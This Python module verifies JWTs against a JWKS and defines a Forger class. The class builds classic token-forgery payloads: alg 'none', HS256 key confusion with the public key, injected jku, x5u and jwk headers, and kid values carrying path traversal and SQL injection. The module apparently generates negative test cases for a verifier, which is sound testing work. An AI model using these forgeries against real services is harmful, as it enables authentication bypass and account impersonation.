"""JWTs: reading, verifying against a JWKS, and forging."""

import base64
import hmac
import json

from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa, utils


def b64url(data):
    """Unpadded base64url."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64url(text):
    """Bytes of unpadded base64url."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def parts(token):
    """Header and payload of a compact JWT, unverified."""
    header, payload, _ = token.split(".")
    return json.loads(unb64url(header)), json.loads(unb64url(payload))


def verify_es256(token, jwks):
    """Verifies an ES256 signature by the key the header names; returns header and payload."""
    header, payload = parts(token)
    assert header["alg"] == "ES256", header
    keys = [key for key in jwks["keys"] if key["kid"] == header["kid"]]
    assert len(keys) == 1, f"{len(keys)} keys with kid {header['kid']}"
    key = keys[0]
    assert (key["kty"], key["crv"]) == ("EC", "P-256"), key
    x, y = (int.from_bytes(unb64url(key[name]), "big") for name in ("x", "y"))
    public = ec.EllipticCurvePublicNumbers(x, y, ec.SECP256R1()).public_key()
    signed, _, signature = token.rpartition(".")
    raw = unb64url(signature)
    assert len(raw) == 64, "an ES256 signature is 64 bytes"
    der = utils.encode_dss_signature(int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big"))
    try:
        public.verify(der, signed.encode(), ec.ECDSA(hashes.SHA256()))
    except InvalidSignature as problem:
        raise AssertionError("the signature does not verify against the JWKS") from problem
    return header, payload


def verify(token, jwks):
    """Verifies a signature of any algorithm a realm signs with, by the key the header names; returns header and payload."""
    header, payload = parts(token)
    if header["alg"] == "ES256":
        return verify_es256(token, jwks)
    (key,) = [key for key in jwks["keys"] if key["kid"] == header["kid"]]
    assert (key["alg"], key["use"]) == (header["alg"], "sig"), key
    signed, _, signature = token.rpartition(".")
    try:
        if header["alg"] == "EdDSA":
            assert (key["kty"], key["crv"]) == ("OKP", "Ed25519"), key
            ed25519.Ed25519PublicKey.from_public_bytes(unb64url(key["x"])).verify(unb64url(signature), signed.encode())
        else:
            assert (header["alg"], key["kty"]) == ("RS256", "RSA"), key
            numbers = rsa.RSAPublicNumbers(*(int.from_bytes(unb64url(key[name]), "big") for name in ("e", "n")))
            assert numbers.n.bit_length() >= 2048
            numbers.public_key().verify(unb64url(signature), signed.encode(), padding.PKCS1v15(), hashes.SHA256())
    except InvalidSignature as problem:
        raise AssertionError("the signature does not verify against the JWKS") from problem
    return header, payload


class Forger:
    """An attacker with a key of his own, one genuine token to imitate, and the published keys."""

    def __init__(self, genuine, jwks=None):
        self._published = (jwks or {"keys": []})["keys"]
        self._genuine = genuine
        self._header, self._payload = parts(genuine)
        self._key = ec.generate_private_key(ec.SECP256R1())

    def make(self, name):
        """The forgery of a given name; KeyError when unknown."""
        return getattr(self, "_" + name)() if hasattr(self, "_" + name) else self._unknown(name)

    @staticmethod
    def _unknown(name):
        raise KeyError(name)

    def _sign(self, header=None, payload=None):
        head = b64url(json.dumps({**self._header, **(header or {})}).encode())
        body = b64url((payload if isinstance(payload, str) else json.dumps({**self._payload, **(payload or {})})).encode())
        der = self._key.sign(f"{head}.{body}".encode(), ec.ECDSA(hashes.SHA256()))
        r, s = utils.decode_dss_signature(der)
        return f"{head}.{body}.{b64url(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"

    def _jwk(self):
        numbers = self._key.public_key().public_numbers()
        return {
            "kty": "EC", "crv": "P-256", "x": b64url(numbers.x.to_bytes(32, "big")), "y": b64url(numbers.y.to_bytes(32, "big")),
        }

    def _none(self):
        head, body = b64url(json.dumps({**self._header, "alg": "none"}).encode()), self._genuine.split(".")[1]
        return f"{head}.{body}."

    def _None(self):  # pylint: disable=invalid-name
        return self._none().replace(self._none().split(".", maxsplit=1)[0], b64url(json.dumps({**self._header, "alg": "None"}).encode()), 1)

    def _hs256_pubkey(self):
        """HMAC with the published key as its secret, in the form libraries used to take it: PEM."""
        key = next(k for k in self._published if k["kid"] == self._header["kid"])
        x, y = (int.from_bytes(unb64url(key[name]), "big") for name in ("x", "y"))
        public = ec.EllipticCurvePublicNumbers(x, y, ec.SECP256R1()).public_key()
        pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        signed = b64url(json.dumps({**self._header, "alg": "HS256"}).encode()) + "." + self._genuine.split(".")[1]
        return signed + "." + b64url(hmac.digest(pem, signed.encode(), "sha256"))

    def _jku(self):
        return self._sign({"jku": "http://127.0.0.1:1/jwks"})

    def _exp_past(self):
        return self._sign(payload={"exp": self._payload["iat"] - 60})

    def _nbf_future(self):
        return self._sign(payload={"nbf": self._payload["exp"] + 3600})

    def _typ_jwt(self):
        return self._sign({"typ": "JWT"})

    def _empty_sig(self):
        return self._genuine.rpartition(".")[0] + "."

    def _no_third_part(self):
        return self._genuine.rpartition(".")[0]

    def _jwe(self):
        return self._nested()

    def _64k(self):
        return self._sign(payload={"padding": "x" * 48_000})

    def _embedded_jwk(self):
        return self._sign({"jwk": self._jwk()})

    def _x5u(self):
        return self._sign({"x5u": "http://127.0.0.1:1/cert.pem"})

    def _kid_traversal(self):
        return self._sign({"kid": "../../../../dev/null"})

    def _kid_sql(self):
        return self._sign({"kid": "' OR '1'='1"})

    def _aud_other(self):
        return self._sign(payload={"aud": "https://other.example"})

    def _crit(self):
        return self._sign({"crit": ["http://example.invalid/undefined"], "http://example.invalid/undefined": True})

    def _b64_false(self):
        return self._sign({"b64": False, "crit": ["b64"]})

    def _dup_claims(self):
        text = json.dumps(self._payload)
        return self._sign(payload='{"sub":"00000000-0000-0000-0000-000000000000",' + text[1:])

    def _exp_string(self):
        return self._sign(payload={"exp": str(self._payload["exp"])})

    def _no_sub(self):
        kept = {k: v for k, v in self._payload.items() if k != "sub"}
        return self._sign(payload=json.dumps(kept))

    def _nested(self):
        return f"{b64url(json.dumps({'alg': 'dir', 'enc': 'A256GCM', 'cty': 'JWT'}).encode())}..{b64url(b'0' * 12)}.{b64url(self._genuine.encode())}.{b64url(b'0' * 16)}"

    # The rest keeps the genuine signature and only changes how it is written.

    def _es256_sig_padded(self):
        signed, _, signature = self._genuine.rpartition(".")
        raw = unb64url(signature)
        return f"{signed}.{b64url(b'%c' % 0 + raw[:32] + b'%c' % 0 + raw[32:])}"

    def _noncanonical_b64_sig(self):
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        return self._genuine[:-1] + alphabet[alphabet.index(self._genuine[-1]) ^ 1]

    def _whitespace(self):
        return self._genuine.replace(".", " .", 1)
